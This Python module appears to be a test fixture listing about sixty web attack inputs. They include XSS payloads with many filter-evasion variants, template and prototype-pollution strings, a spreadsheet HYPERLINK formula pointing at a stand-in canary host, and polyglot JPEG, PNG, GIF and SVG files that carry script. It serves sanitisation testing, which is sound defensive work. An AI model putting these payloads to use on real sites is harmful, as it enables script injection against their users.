"""Sixty attacks on whoever looks: texts as people and clients can write them, and pictures that are something else too.

Each tries to set `__pwned` on the top window, to ask a canary, or to add to what every object has.
"""

import io
from collections.abc import Callable

from PIL import Image
from PIL.PngImagePlugin import PngInfo

RUN = "top.__pwned=1"
IMAGE = f"<img src=x onerror={RUN}>"
CANARY = "https://canary.example"
FIRST = (  # every place gets some of these
    f"<script>{RUN}</script>",
    f'">{IMAGE}',
    f"'><svg onload={RUN}>",
    f"javascript:{RUN}",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<style>@import '{CANARY}/s'</style>",
    f"[x](javascript:{RUN}) ![x]({CANARY}/i.png)",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    f"</textarea></title><img src={CANARY}/t onerror={RUN}>",
    "__proto__",
    "constructor",
)
TAGS = (
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror\x20=\x20{RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\">",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript>{IMAGE}'>",
    f"<!--><script>{RUN}</script-->",
    f"<base href={CANARY}/>",
    f"<meta http-equiv=refresh content='0;url={CANARY}/m'>",
    f"<link rel=stylesheet href={CANARY}/l.css>",
    f"<style>*{{background:url({CANARY}/b)}}</style>",
    f'x" style="background:url({CANARY}/c)" onmouseover={RUN} y="',
    f"`onerror={RUN}`",
    f"<<script>{RUN};//<</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)
REST = (
    f"data:text/html,<script>{RUN}</script>",
    f"jav&#x09;ascript:{RUN}",
    f"vbscript:{RUN}",
    f"<{CANARY}/auto>",
    f'[x]({CANARY} "onmouseover={RUN}")',
    f'![x](x"onerror="{RUN})',
    f"<%= {RUN} %>#{{{RUN}}}",
    f"');{RUN};//",
    f"\\'-{RUN}//",
    "prototype",
    "toString",
    f'=HYPERLINK("{CANARY}")',
)
TEXTS = (*FIRST, *TAGS, *REST)


def _jpeg(**options: object) -> bytes:
    return _written("JPEG", **options)


def _written(kind: str, **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(file, kind, **options)
    return file.getvalue()


def _with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = IMAGE  # description, artist
    return _jpeg(exif=exif)


def _with_notes() -> bytes:
    notes = PngInfo()
    notes.add_itxt("Comment", f"<script>{RUN}</script>")
    return _written("PNG", pnginfo=notes)


PICTURES: dict[str, Callable[[], bytes]] = {  # by the name that their file has
    f"{IMAGE}.jpg": lambda: _jpeg(comment=f"<script>{RUN}</script>".encode()),
    "exif.jpg": _with_exif,
    "notes.png.html": _with_notes,
    "and-a-page.jpg": lambda: _jpeg() + f"<html><script>{RUN}</script>".encode(),
    "script.gif": lambda: b"GIF89a/*" + _written("GIF")[8:] + f"*/=0;{RUN}".encode(),
    "vector.svg": lambda: f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode(),
    "page.jpg": lambda: f"<!doctype html><script>{RUN}</script>".encode(),
}
COUNT = len(TEXTS) + len(PICTURES)
